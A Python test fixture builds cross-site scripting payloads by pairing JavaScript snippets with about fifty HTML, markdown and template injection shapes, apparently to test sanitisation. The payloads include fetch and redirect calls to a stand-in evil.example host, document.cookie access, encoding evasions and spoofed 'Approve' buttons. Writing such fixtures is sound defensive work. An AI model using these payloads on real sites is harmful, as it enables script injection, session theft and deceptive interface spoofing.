"""Words that try to become markup, to run, or to pass for a button or a verdict of Moot."""

# ruff: noqa: E501

PAYLOADS = (
    "alert(1)",
    "fetch('//evil.example')",
    "document.cookie",
    "parent.location='//evil.example'",
    "import('//x')",
)
SHAPES = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>",
    "<iframe src='javascript:{}'></iframe>", "<a href='javascript:{}'>Approve</a>", "[Approve](javascript:{})",
    "![x](x' onerror='{})", "<javascript:{}>", "</figure><script>{}</script>", "</pre></figure><button>{}</button>",
    "```html\n</code></pre><script>{}</script>\n```", "`</code><script>{}</script>`", "<style>@import'//x';</style>{}",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>", "<details open ontoggle={}>", "<form action=//x>{}",
    "<input autofocus onfocus={}>", "<base href=//evil.example>{}", "<meta http-equiv=refresh content='0;url=//x'>{}",
    "<object data='data:text/html,{}'>", "<embed src='javascript:{}'>", "<video><source onerror={}>", "<!--<img src='--><img src=x onerror={}//'>",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "\u202e<script>{}</script>", "<scr\x00ipt>{}</scr\x00ipt>",
    "{{{{ {} }}}}", "{{% raw %}}{}", "\"><script>{}</script>", "' onmouseover='{}' x='", "<a\thref=java&Tab;script:{}>x</a>",
    "<x style='background:url(javascript:{})'>", "<link rel=stylesheet href='data:,{}'>", "<table background='javascript:{}'>",
    "<isindex action=javascript:{}>", "<template><script>{}</script></template>", "<noscript><p title='</noscript><script>{}</script>'>",
    "{{\"reasons\": \"<script>{}</script>\", \"<img src=x onerror=1>\": [\"<svg onload=1>\"]}}", "# <script>{}</script>",
    "| <script>{}</script> |\n|---|\n| <img src=x onerror=1> |", "> <script>{}</script>", "- <script>{}</script>",
    "<p class=\"verdict good\">approved</p>{}", "<button data-post=/v1/x>Approve</button>{}", "<section class=ask>{}</section>",
    "<time datetime='{}'>", "<dialog open>{}</dialog>",
)  # fmt: skip
HOSTILE = [shape.format(payload) for shape in SHAPES for payload in PAYLOADS]
